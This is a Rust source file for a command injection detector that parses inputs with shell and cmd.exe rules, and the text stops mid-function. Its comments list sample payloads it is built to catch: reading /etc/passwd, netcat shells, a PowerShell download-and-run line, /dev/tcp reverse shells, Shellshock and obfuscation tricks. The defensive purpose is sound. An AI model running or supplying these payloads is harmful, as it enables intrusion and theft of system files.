//! OS command injection detector: decides whether an input, placed where an
//! application builds a shell command (`ping INPUT`, `grep 'INPUT' f`,
//! `cmd /c "… INPUT"`), would start a new command — with a POSIX-shell
//! tokenizer (and a Windows `cmd` one), not a keyword list.
//!
//! Passes (the first finding wins), each one tokenization of the input:
//! - `sh:argument` / `sh:command-line` — unquoted, as the rest of an argument
//!   (`ping INPUT`) and, for its first word, as a whole command line;
//! - `sh:single-quoted`, `sh:double-quoted` — starting inside quotes, where
//!   only a closing quote (or, in double quotes, `$(…)` and backticks) lets
//!   the input out;
//! - `cmd:argument` / `cmd:command-line`, `cmd:double-quoted` — `cmd.exe`
//!   rules: `&`, `&&`, `|`, `||`, newline; `^` escapes; `%VAR%` expansion;
//!   only names `cmd` can run count there;
//! - `sh:environment` — a Shellshock function import, `() {` at the start.
//!
//! PowerShell shares `;`, `|` and newlines with POSIX, so the `sh` passes
//! cover it; its commands (`iex`, `iwr`, `Invoke-…`) are exempt from the
//! POSIX syntax check below, since PowerShell reads parentheses as
//! expressions.
//!
//! A word in command position — after a break-out (`;`, `|`, `||`, `&&`,
//! `&`, newline) or first inside `$(…)`, backticks or `<(…)` — is resolved
//! like the shell would: quotes and backslashes removed (`c'a't`, `c\at`,
//! `c""at`), `$IFS`/`${IFS}` read as a separator, unset expansions (`$@`,
//! `$x`, `${x}`, `$()`) as nothing, `{cat,/etc/passwd}` brace-expanded,
//! `$'\x63at'` decoded, `/???/c?t` globbed against the usual binary
//! directories, variables assigned earlier in the input expanded
//! (`a=nc&&$a …`), carets dropped in `cmd` (`w^h^o^a^m^i`), `.exe` stripped.
//! It is flagged when it names a commonly abused binary (`cat`, `id`,
//! `curl`, `nc`, `bash`, `python`, `powershell`, `certutil`, …) and there is
//! shell-shaped evidence, so that prose which happens to use `;` or `&`
//! ("cats & dogs", "passport & id", "rock; paper") passes:
//! - the command word itself was obfuscated or is an absolute path; or
//! - an argument is an option (`-la`), an absolute, home, relative or drive
//!   path, a redirection, an obfuscated word, `$IFS`; or a host/URL for
//!   network tools, a file name for file readers and interpreters, a number
//!   for `sleep`, a subcommand for `net`/`reg`/`sc`; or
//! - it has no argument and is a recon command (`whoami`, `uname`); for
//!   English-looking ones (`id`, `ls`, `ps`, `env`, `hostname`) only when
//!   glued to the operator (`;id`, `|ls`), ended by another separator or a
//!   comment (`; id;`, `& id #`), or inside `$(…)`. Inside backticks, a bare
//!   command counts only when the backtick is glued to a word or in command
//!   position (`` x`id` ``, `` `id` ``, but not "the `id` field"); any
//!   command with arguments counts in backticks glued to a word
//!   (`` 127.0.0.1`echo x` ``), as in `$(…)`.
//!
//! A redirection to `/dev/tcp/…` or `/dev/udp/…` (reverse shells) is flagged
//! anywhere.
//!
//! The shell parses a whole line before running any of it: a POSIX syntax
//! error on the line (`(` inside a word or after arguments, a `)` with
//! nothing open, a quote or substitution still open where the input ends
//! and the application's text resumes) means nothing on it runs. Findings on
//! such a line are dropped, which is what keeps code (`fn f(&self, id: &Id)`,
//! `x.map(|id| id)`) and prose with a stray apostrophe from reading as
//! commands.
//!
//! Decisions:
//! - a bare command line with no break-out (`ls -la`, `cat file.txt`) is
//!   documentation as often as an attack, so in `command-line` context the
//!   first command is flagged only when obfuscated, given by absolute path
//!   (`/bin/sh`), split with `$IFS`, redirected to `/dev/tcp`, or an
//!   unmistakable name chained to more (`whoami|sh`, `ifconfig;`);
//! - Markdown code spans are command substitutions to a shell: `` `ls -la` ``
//!   (a listed command with shell-shaped arguments) and `` `id` `` alone are
//!   flagged, while `` `npm install` `` (not listed) and "the `id` field" (a
//!   bare word in a span after a blank) are not; an input with a fenced code
//!   block (a line of three backticks, closed by another) reads as a
//!   document, where only tricks no document contains count (a run of
//!   three backticks is a fence, not substitutions). Fields that take
//!   technical prose with unfenced shell snippets need a rule exclusion.
//!
//! Bounds: only the first [`MAX_SCAN`] bytes are read; every pass is one
//! forward scan with bounded look-ahead (`${…}`, `%…%`, `{…}` at most a few
//! hundred bytes) and a bounded number of glob matches, so the work is linear.

use super::Detection;

/// How much of an input is scanned (8 KiB). A command past this point is not
/// seen: the bound keeps the cost per target fixed whatever the body size.
pub const MAX_SCAN: usize = 8 * 1024;

/// Bytes kept of one word; a longer word is no command name anyway.
const MAX_WORD: usize = 128;
/// Nesting of `$(`/backticks that is tracked.
const MAX_NESTING: usize = 16;
/// Globbed command words matched per pass (each is a few thousand steps).
const MAX_GLOBS: usize = 16;
/// Arguments of one command inspected for evidence.
const MAX_ARGS: usize = 16;
/// Look-ahead for `${…}`, `%…%` and `{a,b}`.
const MAX_LOOKAHEAD: usize = 256;
/// Variables remembered from assignments in the input.
const MAX_VARS: usize = 16;

/// The bytes a break-out, an obfuscation, an absolute path or a
/// redirection needs one of (the pre-filter for the common clean case; the
/// engine skips [`detect`] on a value without one, see
/// `transform::class::CMDI_BYTES`).
pub(crate) const PREFILTER: [bool; 256] = super::byte_set(b";|&\n`$'\"\\{^/<>%");

/// [`detect`] for the `path` values of a request: only the tails the
/// request view adds (from an unusual segment on: `| id`, `;cat /etc/passwd`,
/// `$(id)/x`), never the whole path. A URL path starts with `/` and would
/// read as a command given by absolute path (`/head`, `/bin/ls`); a tail
/// does not, and a payload in the path starts at its segment.
pub fn detect_path(input: &[u8]) -> Option<Detection> {
    if input.first() == Some(&b'/') {
        return None;
    }
    detect(input)
}

/// Decides whether `input` injects a command in one of the contexts listed
/// in the module documentation.
pub fn detect(input: &[u8]) -> Option<Detection> {
    let s = &input[..input.len().min(MAX_SCAN)];
    // Pre-filter for the common clean case: a break-out, an obfuscation, an
    // absolute path or a redirection all need one of these bytes.
    if !super::has_any(s, &PREFILTER) {
        return None;
    }
    if is_function_import(s) {
        return Some(Detection {
            context: "sh:environment",
            detail: "function-definition=() {".to_string(),
        });
    }
    let doc = is_document(s);
    let has = |b: u8| s.contains(&b);
    let cmd_meta = has(b'&') || has(b'|') || has(b'\n') || has(b'^') || has(b'%');
    let passes = [
        (Mode::Posix, Quote::None, true),
        (Mode::Posix, Quote::Single, has(b'\'')),
        (Mode::Posix, Quote::Double, has(b'"')),
        (Mode::Cmd, Quote::None, cmd_meta),
        (Mode::Cmd, Quote::Double, cmd_meta && has(b'"')),
    ];
    for (mode, quote, worth) in passes {
        if !worth {
            continue;
        }
        if let Some(f) = scan(s, mode, quote, doc) {
            let context = match (mode, quote, f.start) {
                (Mode::Posix, Quote::None, true) => "sh:command-line",
                (Mode::Posix, Quote::None, false) => "sh:argument",
                (Mode::Posix, Quote::Single, _) => "sh:single-quoted",
                (Mode::Posix, Quote::Double, _) => "sh:double-quoted",
                (Mode::Cmd, Quote::None, true) => "cmd:command-line",
                (Mode::Cmd, Quote::None, false) => "cmd:argument",
                (Mode::Cmd, _, _) => "cmd:double-quoted",
            };
            return Some(Detection {
                context,
                detail: f.detail,
            });
        }
    }
    None
}

/// Whether the input reads as a document that quotes commands rather than
/// as a value placed in a command line: several lines of text (a script,
/// a config file, a traceback, a GraphQL query pasted in a field), or a run
/// of natural-language words (prose that mentions `sort | uniq -c`). An
/// injection is short and breaks out of the value early; tools send one
/// line with a break-out and a command, not paragraphs.
fn is_document(s: &[u8]) -> bool {
    if fenced_block(s) {
        return true;
    }
    let lines = s
        .split(|&b| b == b'\n')
        .filter(|l| l.iter().filter(|b| b.is_ascii_alphabetic()).count() >= 2)
        .take(4)
        .count();
    if lines >= 4 {
        return true;
    }
    // Words of letters (with trailing punctuation) against all words.
    let (mut words, mut total) = (0usize, 0usize);
    for w in s
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
    {
        total += 1;
        let core = w
            .strip_suffix(b",")
            .or_else(|| w.strip_suffix(b"."))
            .or_else(|| w.strip_suffix(b":"))
            .or_else(|| w.strip_suffix(b"?"))
            .or_else(|| w.strip_suffix(b"!"))
            .unwrap_or(w);
        if core.len() >= 2 && core.iter().all(|b| b.is_ascii_alphabetic() || *b == b'\'') {
            words += 1;
        }
    }
    words >= 12 && words * 3 >= total * 2
}

/// A Markdown fenced code block: a line that opens a fence (up to three
/// spaces, then three or more backticks and an optional info string without
/// one) and a later line that closes it. Someone writing Markdown, quoting a
/// snippet (`npm install --save-dev x` between fences in a comment field);
/// an injection breaks out of a value, it does not open a fence on a line
/// of its own and close it again. The snippet is still read as a document,
/// where what no document contains (obfuscation, `$IFS`, ANSI-C quoting)
/// stays evidence, and `/dev/tcp` redirections are flagged anywhere.
fn fenced_block(s: &[u8]) -> bool {
    let fence = |line: &[u8]| {
        let indent = line.iter().take_while(|&&b| b == b' ').count();
        let rest = &line[indent..];
        let ticks = rest.iter().take_while(|&&b| b == b'`').count();
        indent <= 3 && ticks >= 3 && !rest[ticks..].contains(&b'`')
    };
    let mut lines = s
        .split(|&b| b == b'\n')
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    lines.by_ref().any(fence) && lines.any(fence)
}

/// `127.0.0.1 | id`, `example.com; ls`, `a.txt && id`: the input starts
/// with one word shaped like what the application expects (an address, a
/// host, a file name, a number: digits or dots, no blank) and then a
/// break-out. Prose puts a word there ("passport & id").
fn value_lead(s: &[u8]) -> bool {
    let n = s
        .iter()
        .take_while(|&&b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b':' | b'_' | b'-' | b'/')
        })
        .count();
    let word = &s[..n];
    if n == 0 || n > 64 || !word.iter().any(|&b| b.is_ascii_digit() || b == b'.') {
        return false;
    }
    let rest = &s[n..];
    let blank = rest
        .iter()
        .take_while(|&&b| b == b' ' || b == b'\t')
        .count();
    matches!(rest.get(blank), Some(b'|' | b';' | b'&' | b'\n'))
}

/// `;echo QWERTY`, `' && printf x`, `127.0.0.1"|echo x`: the input opens
/// with a break-out — at its very start, or right after one value-shaped
/// word and, in a quoted pass, the quote that closes it. Prose and code do
/// not open with an operator; a leading `|` counts only when the input does
/// not also end with one (a Markdown table row).
fn opens_with_breakout(s: &[u8], quote: Quote) -> bool {
    let n = s
        .iter()
        .take_while(|&&b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b':' | b'_' | b'-' | b'/')
        })
        .count();
    if n > 64 {
        return false;
    }
    let mut rest = &s[n..];
    let closing = match quote {
        Quote::None => None,
        Quote::Single => Some(b'\''),
        Quote::Double => Some(b'"'),
    };
    if let Some(q) = closing {
        match rest.split_first() {
            Some((&b, tail)) if b == q => rest = tail,
            _ => return false,
        }
    } else if n > 0 && !s[..n].iter().any(|&b| b.is_ascii_digit() || b == b'.') {
        // An unquoted lead must look like a value (`127.0.0.1`, `a.txt`).
        return false;
    }
    let blank = rest
        .iter()
        .take_while(|&&b| b == b' ' || b == b'\t')
        .count();
    match rest.get(blank) {
        Some(b';' | b'&' | b'\n') => true,
        Some(b'|') => {
            let end = s
                .iter()
                .rposition(|b| !b.is_ascii_whitespace())
                .map(|e| s[e]);
            end != Some(b'|') || closing.is_some()
        }
        _ => false,
    }
}

/// `() { …` at the start: how bash (Shellshock, CVE-2014-6271) imports a
/// function from an environment variable, which is where headers and CGI
/// parameters end up. As a command line it would be a syntax error, so the
/// passes below would not see it.
fn is_function_import(s: &[u8]) -> bool {
    let mut rest = s.iter().copied().filter(|b| !b.is_ascii_whitespace());
    rest.next() == Some(b'(') && rest.next() == Some(b')') && rest.next() == Some(b'{')
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    Posix,
    Cmd,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Single,
    Double,
}

/// One tokenization of the input, fed to the analyzer token by token.
///
/// The shell parses a whole line before running any of it, so a syntax
/// error later on the line (`fn f(&self, id: &Id)`, `x.map(|id| id)`: code,
/// not a command line) means nothing on it runs: findings are held until the
/// line ends and dropped if it does not parse.
fn scan(s: &[u8], mode: Mode, quote: Quote, doc: bool) -> Option<Finding> {
    let mut lx = Lexer::new(s, mode, quote);
    let mut an = Analyzer::new(mode, quote == Quote::None);
    an.doc = doc;
    an.lead = quote == Quote::None && value_lead(s);
    an.opening = opens_with_breakout(s, quote);
    let mut pending: Option<Finding> = None;
    let mut line_error = false;
    let mut in_comment = false;
    while let Some(tok) = lx.next() {
        let mut end_of_line = false;
        in_comment = matches!(tok, Tok::Comment);
        let found = match tok {
            Tok::Word => an.word(&lx.word),
            Tok::Sep(op) => {
                end_of_line = op == "newline";
                an.boundary(Some(op), Some(op))
            }
            Tok::Open(op, glued, in_word) => an.open(op, glued, in_word),
            Tok::Close => an.close(),
            Tok::Comment => an.boundary(None, Some("#")),
            Tok::Group => {
                // A subshell may only start a command (`echo (x)` is an
                // error).
                if mode == Mode::Posix && an.expect.is_none() {
                    line_error = true;
                }
                an.group();
                None
            }
            Tok::Redirect(here) => an.redirect(here),
            Tok::Error => {
                line_error = true;
                None
            }
        };
        // PowerShell shares `;`, `|` and newlines with POSIX but reads
        // parentheses as expressions: its commands are not held to POSIX
        // syntax (`; iex (iwr http://…)`).
        if line_error {
            pending = pending.filter(|f| f.powershell);
        }
        if pending.is_none() {
            pending = found.filter(|f| !line_error || f.powershell);
        }
        if end_of_line {
            if pending.is_some() {
                return pending;
            }
            line_error = false;
        }
    }
    // The input ends where the application's text resumes: a quote or
    // substitution left open (other than the quote the pass started in,
    // which the application closes) is a syntax error for the last line,
    // unless a `#` comment swallows the rest (`'; id #`). `cmd` does not mind.
    // A command word split by quotes (`c'a't`) is no apostrophe of prose:
    // a quote left open after it (`pa's's'wd`) does not excuse it.
    let open_at_end =
        mode == Mode::Posix && !in_comment && (lx.quote != quote || !lx.stack.is_empty());
    let keep =
        |f: &Finding| (!line_error && !open_at_end) || f.powershell || (!line_error && f.tricked);
    if let Some(c) = an.cmd.as_mut() {
        c.last = true;
    }
    let found = an.boundary(None, None).filter(keep);
    pending.filter(keep).or(found)
}

/// Printable rendering of input bytes for `detail`, capped.
fn show(b: &[u8]) -> String {
    b.iter()
        .take(32)
        .map(|&c| if c.is_ascii_graphic() { c as char } else { '?' })
        .collect()
}

// ---------------------------------------------------------------- lexer --

/// A word as the shell would see it after quote removal, with how it was
/// written.
#[derive(Default)]
struct Word {
    /// Lower-cased (commands are matched case-insensitively: Windows is, and
    /// the caller may lower-case anyway), quotes and escapes removed.
    text: Vec<u8>,
    /// Whitespace (or `$IFS`) between the previous token and this word.
    space_before: bool,
    /// The first trick that changed the word: split quotes, escapes,
    /// expansions, carets, brace expansion, ANSI-C quoting.
    obf: Option<&'static str>,
    /// Some part was quoted / some part was not.
    quoted: bool,
    literal: bool,
    /// Length of `text` when the last quote opened (to see `""`).
    quote_mark: usize,
    /// Quotes opened in this word.
    quotes: u8,
    /// An unquoted `?`, `*` or `[`.
    glob: bool,
    /// `NAME=value` (an environment assignment before a command).
    assign: bool,
    /// `$IFS` served as the separator next to this word.
    ifs: bool,
}

enum Tok {
    /// The lexer's `word` holds the word.
    Word,
    /// A command separator: `;`, `&&`, `||`, `&`, `|`, newline.
    Sep(&'static str),
    /// A command substitution opens: `$(`, a backtick, `<(`, `>(`; and
    /// whether it is glued to what precedes it (`x`id``, not `x `id``), and
    /// whether that is a word (not the start of the input).
    Open(&'static str, bool, bool),
    Close,
    /// `(`: a subshell (or a `cmd` block), closed by `Close`.
    Group,
    /// `>`, `>>`, `<`, `>&`, `&>`, …; the next word is its target. `true`
    /// for a here-string (`<<<`), which feeds the word itself.
    Redirect(bool),
    /// `#…` to the end of the line.
    Comment,
    /// A POSIX syntax error: `(` inside a word, `)` with nothing open.
    Error,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Frame {
    Paren,
    Backtick,
}

struct Lexer<'a> {
    s: &'a [u8],
    i: usize,
    mode: Mode,
    quote: Quote,
    /// Open substitutions with the quote state to restore when they close.
    stack: Vec<(Frame, Quote)>,
    word: Word,
    in_word: bool,
    /// Whitespace seen since the last token.
    space: bool,
    /// `$IFS` seen since the last word.
    ifs_pending: bool,
    /// Remaining elements of a brace expansion: next element start, `}`.
    brace: Option<(usize, usize)>,
    /// Variables assigned earlier in the input (`a=nc&&$a -e sh`), so that
    /// their expansions resolve.
    vars: Vec<(Vec<u8>, Vec<u8>)>,
    /// The next `}` found by `next_close_brace` (`usize::MAX`: none).
    close_brace: Option<usize>,
}

impl<'a> Lexer<'a> {
    fn new(s: &'a [u8], mode: Mode, quote: Quote) -> Self {
        let mut lx = Lexer {
            s,
            i: 0,
            mode,
            quote,
            stack: Vec::new(),
            word: Word::default(),
            in_word: false,
            space: false,
            ifs_pending: false,
            brace: None,
            vars: Vec::new(),
            close_brace: None,
        };
        if quote != Quote::None {
            // The input continues a quoted argument word.
            lx.start_word();
            lx.word.quoted = true;
        }
        lx
    }

    fn start_word(&mut self) {
        if self.in_word {
            return;
        }
        self.in_word = true;
        self.word.text.clear();
        self.word.space_before = self.space;
        self.word.obf = None;
        self.word.quoted = false;
        self.word.literal = false;
        self.word.quote_mark = 0;
        self.word.quotes = 0;
        self.word.glob = false;
        self.word.assign = false;
        self.word.ifs = self.ifs_pending;
        self.space = false;
        self.ifs_pending = false;
    }

    fn push(&mut self, b: u8, quoted: bool) {
        self.start_word();
        if !quoted {
            self.word.literal = true;
        }
        if self.word.text.len() < MAX_WORD {
            self.word.text.push(b.to_ascii_lowercase());
        }
    }

    fn obfuscated(&mut self, how: &'static str) {
        self.start_word();
        self.word.obf.get_or_insert(how);
    }

    /// Ends the current word; `None` when there is none.
    fn finish_word(&mut self) -> Option<Tok> {
        if !self.in_word {
            return None;
        }
        self.in_word = false;
        if self.word.quoted && self.word.literal {
            self.word.obf.get_or_insert("split-quote");
        }
        if self.word.assign
            && let Some(eq) = self.word.text.iter().position(|&b| b == b'=')
        {
            let (name, value) = self.word.text.split_at(eq);
            let value = value[1..].to_vec();
            if let Some(v) = self.vars.iter_mut().find(|(n, _)| n == name) {
                v.1 = value;
            } else if self.vars.len() < MAX_VARS {
                self.vars.push((name.to_vec(), value));
            }
        }
        Some(Tok::Word)
    }

    /// `$name` / `${name}`: a variable assigned earlier in the input expands
    /// to its value, anything else (unset in an attacker's payload) to
    /// nothing.
    fn expand(&mut self, name: &[u8]) {
        self.obfuscated("expansion");
        let value = self
            .vars
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.clone());
        for b in value.unwrap_or_default() {
            self.push(b, true);
        }
    }

    /// A token that ends the current word: the word goes out first and the
    /// byte is read again on the next call.
    fn boundary(&mut self, tok: Tok, len: usize) -> Option<Tok> {
        if self.in_word {
            return self.finish_word();
        }
        self.i += len;
        self.space = false;
        Some(tok)
    }

    fn next(&mut self) -> Option<Tok> {
        if let Some(t) = self.brace_element() {
            return Some(t);
        }
        loop {
            let Some(&b) = self.s.get(self.i) else {
                if self.quote != Quote::None
                    && self.word.quotes == 1
                    && self.word.text.len() == self.word.quote_mark
                {
                    // A quote opened by the input's last byte is the one the
                    // application closes: no trick.
                    self.word.quoted = false;
                }
                return self.finish_word();
            };
            let tok = match self.quote {
                Quote::Single => {
                    self.i += 1;
                    if b == b'\'' {
                        self.close_quote();
                    } else {
                        self.push(b, true);
                    }
                    None
                }
                Quote::Double => self.double_quoted(b),
                Quote::None => self.unquoted(b),
            };
            if tok.is_some() {
                return tok;
            }
        }
    }

    fn open_quote(&mut self, q: Quote) {
        self.start_word();
        self.word.quoted = true;
        self.word.quote_mark = self.word.text.len();
        self.word.quotes = self.word.quotes.saturating_add(1);
        self.quote = q;
        self.i += 1;
    }

    fn close_quote(&mut self) {
        self.quote = Quote::None;
        if self.word.text.len() == self.word.quote_mark && self.word.literal {
            // `c""at`: an empty pair inside a word.
            self.word.obf.get_or_insert("empty-quote");
        }
    }

    fn double_quoted(&mut self, b: u8) -> Option<Tok> {
        let posix = self.mode == Mode::Posix;
        match b {
            b'"' => {
                self.i += 1;
                self.close_quote();
                None
            }
            b'\\' if posix => {
                match self.s.get(self.i + 1) {
                    Some(b'\n') => {}
                    Some(&n @ (b'$' | b'`' | b'"' | b'\\')) => self.push(n, true),
                    _ => {
                        self.push(b'\\', true);
                        self.i += 1;
                        return None;
                    }
                }
                self.i += 2;
                None
            }
            b'$' if posix => self.dollar(),
            b'`' if posix => self.backtick(),
            b'%' if !posix => self.percent(true),
            _ => {
                self.i += 1;
                self.push(b, true);
                None
            }
        }
    }

    fn unquoted(&mut self, b: u8) -> Option<Tok> {
        let posix = self.mode == Mode::Posix;
        let cmd = self.mode == Mode::Cmd;
        let next = self.s.get(self.i + 1).copied();
        match b {
            b' ' | b'\t' | b'\r' | 0x0b | 0x0c => self.blank(),
            // `cmd` splits arguments on these too, but does not end a command.
            b';' | b',' if cmd => self.blank(),
            b'\n' => self.boundary(Tok::Sep("newline"), 1),
            b';' => self.boundary(Tok::Sep(";"), 1),
            b'&' => match next {
                Some(b'&') => self.boundary(Tok::Sep("&&"), 2),
                Some(b'>') => self.boundary(Tok::Redirect(false), 2),
                _ => self.boundary(Tok::Sep("&"), 1),
            },
            b'|' => match next {
                Some(b'|') => self.boundary(Tok::Sep("||"), 2),
                Some(b'&') => self.boundary(Tok::Sep("|"), 2),
                _ => self.boundary(Tok::Sep("|"), 1),
            },
            // `cmd` takes parentheses literally inside a word and outside a
            // block; POSIX calls both a syntax error (`a=(…)` is an array).
            b'(' if self.in_word && (cmd || self.word.assign) => {
                self.i += 1;
                self.push(b, false);
                None
            }
            b'(' if self.in_word => {
                self.i += 1;
                Some(Tok::Error)
            }
            b'(' => {
                self.enter(Frame::Paren);
                self.boundary(Tok::Group, 1)
            }
            b')' => {
                if self.in_word {
                    return self.finish_word();
                }
                if self.stack.last().is_some_and(|f| f.0 == Frame::Paren) {
                    if let Some((_, q)) = self.stack.pop() {
                        self.quote = q;
                    }
                    return self.boundary(Tok::Close, 1);
                }
                self.i += 1;
                if posix {
                    return Some(Tok::Error);
                }
                self.push(b, false);
                None
            }
            // Process substitution starts a word (`a<(b)` is read as a
            // redirection here).
            b'<' | b'>' if posix && next == Some(b'(') && !self.glued_to_word() => {
                self.enter(Frame::Paren);
                let op = if b == b'<' { "<(" } else { ">(" };
                let glued = !self.space;
                self.boundary(Tok::Open(op, glued, glued && self.i > 0), 2)
            }
            b'<' | b'>' => self.redirection(),
            b'`' if posix => self.backtick(),
            b'#' if !cmd && !self.in_word => {
                // A comment runs to the end of the line.
                let rest = &self.s[self.i..];
                let len = rest.iter().position(|&c| c == b'\n').unwrap_or(rest.len());
                self.boundary(Tok::Comment, len)
            }
            b'\'' if !cmd => {
                self.open_quote(Quote::Single);
                None
            }
            b'"' => {
                self.open_quote(Quote::Double);
                None
            }
            b'\\' if posix => self.escape(),
            b'^' if cmd => {
                if let Some(n) = next {
                    self.push(n, false);
                    self.word.obf.get_or_insert("caret");
                }
                self.i += 2;
                None
            }
            b'$' if posix => self.dollar(),
            b'%' if cmd => self.percent(false),
            b'{' if posix && !self.in_word => self.brace_open(),
            b'?' | b'*' | b'[' => {
                self.i += 1;
                self.push(b, false);
                self.word.glob = true;
                None
            }
            b'=' => {
                self.i += 1;
                let ident = self.in_word
                    && !self.word.quoted
                    && self.word.obf.is_none()
                    && self.word.text.first().is_some_and(|c| !c.is_ascii_digit())
                    && self
                        .word
                        .text
                        .iter()
                        .all(|&c| c.is_ascii_alphanumeric() || c == b'_');
                if ident && !self.word.assign {
                    self.word.assign = true;
                }
                self.push(b, false);
                None
            }
            _ => {
                self.i += 1;
                self.push(b, false);
                None
            }
        }
    }

    /// The POSIX escape character: the next byte is literal; before a letter
    /// it only hides a name (`c\at`).
    fn escape(&mut self) -> Option<Tok> {
        match self.s.get(self.i + 1).copied() {
            Some(b'\n') | None => {}
            Some(n) => {
                self.push(n, false);
                if n.is_ascii_alphanumeric() {
                    self.word.obf.get_or_insert("escape");
                }
            }
        }
        self.i += 2;
        None
    }

    fn blank(&mut self) -> Option<Tok> {
        if self.in_word {
            return self.finish_word();
        }
        self.i += 1;
        self.space = true;
        None
    }

    fn enter(&mut self, frame: Frame) {
        if self.stack.len() < MAX_NESTING {
            self.stack.push((frame, self.quote));
        }
        self.quote = Quote::None;
    }

    /// The byte before the current one belongs to a word (not blank, not
    /// an operator, not the start of the input).
    fn glued_to_word(&self) -> bool {
        self.in_word
            || self
                .i
                .checked_sub(1)
                .and_then(|p| self.s.get(p))
                .is_some_and(|&b| !matches!(b, b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'('))
    }

    fn backtick(&mut self) -> Option<Tok> {
        let run = self.s[self.i..].iter().take_while(|&&b| b == b'`').count();
        if run >= 3 {
            // A Markdown code fence, not three substitutions.
            self.i += run;
            self.space = true;
            return self.finish_word();
        }
        if run == 2 {
            // An empty substitution inside a word (`who``ami`).
            self.i += 2;
            self.obfuscated("expansion");
            return None;
        }
        if self.in_word {
            return self.finish_word();
        }
        if self.stack.last().is_some_and(|f| f.0 == Frame::Backtick) {
            if let Some((_, q)) = self.stack.pop() {
                self.quote = q;
            }
            return self.boundary(Tok::Close, 1);
        }
        // Glued to a word (`x`id``), not to an opening bracket ("[`Id`]",
        // "(`id`)": Markdown).
        let glued = !self.space
            && !self
                .i
                .checked_sub(1)
                .and_then(|p| self.s.get(p))
                .is_some_and(|&b| matches!(b, b'(' | b'[' | b'{'));
        self.enter(Frame::Backtick);
        self.boundary(Tok::Open("`", glued, glued && self.i > 0), 1)
    }

    fn redirection(&mut self) -> Option<Tok> {
        // A file descriptor number glued to the operator (`2>`, `0<&1`) is
        // part of it, not a word.
        if self.in_word {
            let fd = !self.word.quoted
                && self.word.obf.is_none()
                && self.word.text.iter().all(u8::is_ascii_digit);
            if !fd {
                return self.finish_word();
            }
            self.in_word = false;
        }
        let s = self.s;
        let mut len = 1;
        while len < 3 && matches!(s.get(self.i + len), Some(b'>' | b'<' | b'&' | b'|')) {
            len += 1;
        }
        let here = s.get(self.i..self.i + len) == Some(&b"<<<"[..]);
        self.boundary(Tok::Redirect(here), len)
    }

    /// `$…` in POSIX mode, unquoted or in double quotes.
    fn dollar(&mut self) -> Option<Tok> {
        let s = self.s;
        let i = self.i;
        match s.get(i + 1).copied() {
            Some(b'(') if s.get(i + 2) == Some(&b'(') => {
                // Arithmetic `$((…))` yields a number, never a command.
                let end = s[i + 3..]
                    .windows(2)
                    .position(|w| w == b"))")
                    .map_or(s.len(), |e| i + 3 + e + 2);
                self.i = end;
                self.obfuscated("expansion");
                None
            }
            Some(b'(') if s.get(i + 2) == Some(&b')') => {
                self.i += 3;
                self.obfuscated("expansion");
                None
            }
            Some(b'(') => {
                if self.in_word {
                    return self.finish_word();
                }
                self.enter(Frame::Paren);
                self.boundary(Tok::Open("$(", !self.space, !self.space && self.i > 0), 2)
            }
            Some(b'{') => {
                let Some(c) = self
                    .next_close_brace(i + 2)
                    .map(|c| c - (i + 2))
                    .filter(|&c| c < MAX_LOOKAHEAD)
                else {
                    self.i += 1;
                    self.push(b'$', self.quote != Quote::None);
                    return None;
                };
                let inner = &s[i + 2..i + 2 + c];
                self.i = i + 3 + c;
                if inner.eq_ignore_ascii_case(b"ifs") {
                    return self.ifs();
                }
                if inner.ends_with(b":0:1") {
                    // `${HOME:0:1}`, `${PATH:0:1}`: the first character of an
                    // absolute path, i.e. `/`.
                    self.obfuscated("expansion");
                    self.push(b'/', true);
                } else {
                    self.expand(inner);
                }
                None
            }
            Some(b'\'') if self.quote == Quote::None => {
                self.ansi_c();
                None
            }
            Some(b'"') if self.quote == Quote::None => {
                // `$"…"` (locale translation) is a double-quoted string.
                self.i += 1;
                self.open_quote(Quote::Double);
                None
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let len = s[i + 1..]
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
                let name = &s[i + 1..i + 1 + len];
                self.i = i + 1 + len;
                if name.eq_ignore_ascii_case(b"ifs") {
                    return self.ifs();
                }
                self.expand(name);
                None
            }
            Some(c)
                if c.is_ascii_digit()
                    || matches!(c, b'@' | b'*' | b'#' | b'?' | b'!' | b'-' | b'$') =>
            {
                self.i += 2;
                self.obfuscated("expansion");
                None
            }
            _ => {
                self.i += 1;
                self.push(b'$', self.quote != Quote::None);
                None
            }
        }
    }

    /// Position of the first `}` at or after `from`. Remembered, so that
    /// `${${${…` without a `}` reads the input once, not once per `${`.
    fn next_close_brace(&mut self, from: usize) -> Option<usize> {
        if self.close_brace.is_none_or(|c| c < from) {
            let start = from.max(self.close_brace.map_or(0, |c| c + 1));
            self.close_brace = self
                .s
                .get(start..)?
                .iter()
                .position(|&b| b == b'}')
                .map(|p| start + p);
            if self.close_brace.is_none() {
                // None left: remember that as a position past the end.
                self.close_brace = Some(usize::MAX);
                return None;
            }
        }
        self.close_brace.filter(|&c| c != usize::MAX)
    }

    /// `$IFS` splits words like whitespace.
    fn ifs(&mut self) -> Option<Tok> {
        self.ifs_pending = true;
        if self.in_word {
            self.word.ifs = true;
            return self.finish_word();
        }
        self.space = true;
        None
    }

    /// `$'…'` with C escapes (`$'\x63at'`, `$'\143at'`).
    fn ansi_c(&mut self) {
        let s = self.s;
        let mut j = self.i + 2;
        self.start_word();
        self.word.quoted = true;
        self.word.obf.get_or_insert("ansi-c");
        while let Some(&c) = s.get(j) {
            if c == b'\'' {
                j += 1;
                break;
            }
            if c != b'\\' {
                self.push(c, true);
                j += 1;
                continue;
            }
            let Some(&e) = s.get(j + 1) else {
                j += 1;
                break;
            };
            let (radix, from, max) = match e {
                b'x' => (16, j + 2, 2),
                b'0'..=b'7' => (8, j + 1, 3),
                _ => (0, j + 2, 0),
            };
            if radix == 0 {
                let b = match e {
                    b'n' => b'\n',
                    b't' => b'\t',
                    b'r' => b'\r',
                    other => other,
                };
                self.push(b, true);
                j += 2;
                continue;
            }
            let mut val: u32 = 0;
            let mut k = from;
            while k < from + max
